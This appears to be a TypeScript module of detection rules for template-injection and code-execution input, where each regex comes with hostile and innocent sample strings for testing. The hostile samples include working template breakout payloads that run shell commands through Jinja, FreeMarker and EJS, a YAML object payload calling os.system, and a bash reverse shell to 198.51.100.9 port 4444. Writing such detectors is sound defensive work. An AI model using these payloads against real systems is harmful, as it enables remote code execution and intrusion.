// Grammar of texts written to run in a template engine, or as code of other languages than PHP.
// Each entry keeps the hostile and innocent texts that it is tested with.
import type { GrammarEntry } from './grammar-entry.ts';

/** Tried on the first 4,096 characters of a decoded value. */
export const TEMPLATE_GRAMMAR: readonly GrammarEntry[] = [
  // a sum of two numbers in the brackets of a template
  {
    id: 'tmpl-sum',
    family: 'exploit',
    cls: 'break',
    re: /[$*%#~]\{{1,2}\s*['"]?\d{1,7}['"]?\s*[*+-]\s*['"]?\d{1,7}['"]?\s*\}|\{\{\s*['"]?\d{1,7}['"]?\s*[*+-]\s*['"]?\d|@\(\s*\d{1,7}\s*\*\s*\d{1,7}\s*\)/,
    hostile: ['${7*7}', '*{7*7}', '%{7*7}', '@(7*7)', '[[${7*7}]]', "{{'7'*7}}", '${{7*7}}', '#{ 3 * 3 }'],
    innocent: ['${price} EUR', '{{ price }}', '5*{3}', 'a @ 3*4', '#{title}', '{7*7}'],
  },
  // objects that only somebody who breaks out of a template asks for
  {
    id: 'tmpl-object',
    family: 'exploit',
    cls: 'active',
    re: /\{[{%][^}]{0,200}(?:__[a-z]{2,20}__|\b_self\b|\bos\s*\.\s*(?:popen|system)\b)|\{%-?\s*import\s+os\b|<#assign\b|!!python\/\w|freemarker\.template\.utility|\{php\}.{1,300}\{\/php\}|<%[=-]?\s*(?:system|exec|eval|global\.process|Runtime)\b/i,
    hostile: [
      '!!python/object/apply:os.system ["id"]',
      '{{request.application.__globals__}}',
      '{{lipsum.__globals__}}',
      '{{_self.env.registerUndefinedFilterCallback("exec")}}',
      '{% import os %}{{ os.popen("id") }}',
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
      '{php}phpinfo();{/php}',
      "<%= system('id') %>",
      "<%- global.process.mainModule.require('child_process').execSync('id') %>",
    ],
    innocent: [
      '{{ request.path }}',
      '{{ config.title }} and {{ item.__proto }}',
      '{% import "macros.html" as m %}',
      '<%= title %>',
      'def __init__(self):',
      '{php} is a tag',
    ],
  },
  // calls of Node, Python and shells' own devices
  {
    id: 'code-run',
    family: 'rce',
    cls: 'mention',
    re: /\brequire\s*\(\s*['"](?:child_process|fs|net)['"]\s*\)\s*\.\s*\w|\bprocess\.mainModule\b|\b__import__\s*\(\s*['"]|\(\)\.__class__|\/dev\/(?:tcp|udp)\/[\w.]{1,80}\/\d/i,
    hostile: [
      "require('child_process').exec('id')",
      "process.mainModule.require('fs')",
      "__import__('os').system('id')",
      '().__class__.__bases__[0]',
      'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
    ],
    innocent: ["const fs = require('fs');", 'import os', 'ls /dev/tcpdump', 'the process main module'],
  },
  // Java objects as bytes
  {
    id: 'java-object',
    family: 'java',
    cls: 'active',
    re: /^\s*(?:rO0AB[\w+/=-]{4,}|aced0005[\da-f]{4,})/,
    hostile: ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', 'aced00057372'],
    innocent: ['rO0A', 'aced', 'placed0005', 'dGVzdA=='],
  },
];
